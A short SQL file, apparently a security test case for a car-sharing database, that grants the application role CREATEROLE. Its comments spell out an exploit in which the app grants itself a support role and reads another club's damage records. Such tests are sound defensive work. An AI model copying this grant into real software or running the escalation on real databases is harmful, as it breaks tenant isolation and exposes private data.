-- The application should create logins for clubs; with CREATEROLE it can also grant itself the support role.
-- about: hf_carshare_app, hf_carshare_support, hf_carshare_owner, members, cars, trips, damages
-- as: hf_carshare_app
-- exploit: SET carshare.club = 'aaaaaaaa-0000-4000-8000-000000000001';
-- exploit: GRANT hf_carshare_support TO hf_carshare_app;
-- exploit: SET ROLE hf_carshare_support;
-- exploit: SELECT body FROM share.damages;
-- shows: Road-secret dent
ALTER ROLE hf_carshare_app CREATEROLE;
